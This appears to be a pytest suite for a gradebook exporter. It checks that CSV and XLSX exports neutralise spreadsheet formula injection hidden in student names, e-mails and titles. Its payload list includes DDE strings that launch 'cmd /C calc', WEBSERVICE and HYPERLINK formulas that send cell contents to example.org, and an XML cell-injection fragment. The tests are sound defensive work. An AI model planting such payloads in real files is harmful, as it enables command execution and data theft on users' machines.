"""No cell of an export is a formula, whatever a name, an e-mail, an id or a title holds."""

import io
import zipfile
from xml.etree import ElementTree

import pytest
from hypothesis import given

from gradgrade.service.gradebook_formats import FORMATS
from gradgrade.service.gradebook_formats.table import harmless
from tests.service.gradebook_formats.books import ANY_TEXT, TEXTS, book, cell
from tests.service.gradebook_formats.reading import (
    kinds_of,
    looks_dangerous,
    plain,
    rows_of,
    sheets_of,
)

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "\tAda",
    "\rAda",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200f\u202e=1+1",
    '"=1+1',
    '" =1+1"',
    "'=1+1",
    "''=1+1",
    "“=1+1”",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML(CONCAT("http://example.org/", A1),"//a")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '=DDE("cmd";"/C calc";"a")',
    'Ada","=1+1',
    'Ada";"=1+1',
    "Ada;=1+1",
    "Ada,=1+1",
    "Ada\t=1+1",
    "Ada\n=1+1",
    "Ada\r\n+1+1",
    "Ada; '=1+1",
    '<r><t>x</t></r></is></c><c r="Z9"><f>1+1</f></c><c><is><r><t>y</t></r>',
]
FIELDS = ("student", "name", "email", "title")
CSV_LIKE = ("csv", "canvas", "moodle")


def with_payload(field, payload):
    return book(cell(850), **{field: payload})


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 25


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", CSV_LIKE)
def test_no_cell_of_csv_begins_like_a_formula_whatever_the_separator(name, payload, delimiter):
    for field in FIELDS:
        raw = FORMATS[name].write(with_payload(field, payload))
        cells = [each for row in rows_of(raw, delimiter=delimiter) for each in row]
        assert not [each for each in cells if looks_dangerous(each)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_has_no_formula_and_keeps_the_text(payload):
    for field in FIELDS:
        raw = FORMATS["xlsx"].write(with_payload(field, payload))
        assert kinds_of(raw) <= {"s", "n", "inlineStr"}
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            sheets = [each for each in archive.namelist() if "worksheets/" in each]
            tags = {
                tag.tag for each in sheets for tag in ElementTree.parse(archive.open(each)).iter()
            }
        assert not any(tag.endswith(("}f", "}hyperlink")) for tag in tags)
    row = sheets_of(FORMATS["xlsx"].write(with_payload("name", payload)))["Gradebook"][1]
    assert row[1].rstrip() == payload.rstrip()


def test_what_the_checks_look_for_is_found():
    # The checks above can fail: the payloads, as they are, are refused by them.
    assert all(looks_dangerous(each) for each in PAYLOADS if not each.startswith(("Ada", "<", "'")))
    split = [cell for each in PAYLOADS for cell in each.replace(",", ";").split(";")]
    assert sum(map(looks_dangerous, split)) > len(PAYLOADS) / 2


@pytest.mark.parametrize(
    "text",
    ["", "Ada Lovelace", "O'Hara", "Anna-Maria", 'Ada "Countess"', "a@b.org", "1.50", "Ada, Alan"],
)
def test_a_harmless_text_is_left_as_it_is(text):
    assert harmless(text) == text


@given(TEXTS | ANY_TEXT)
def test_a_text_made_harmless_can_be_made_out_again(text):
    assert plain(harmless(text)) == text
    assert not looks_dangerous(harmless(text))


@given(TEXTS, TEXTS)
def test_two_texts_never_look_the_same(one, other):
    assert (harmless(one) == harmless(other)) == (one == other)


def test_a_text_that_looks_like_an_escape_of_a_workbook_is_kept():
    raw = FORMATS["xlsx"].write(with_payload("name", "_x0041_"))
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        assert b"_x005F_x0041_" in archive.read("xl/sharedStrings.xml")
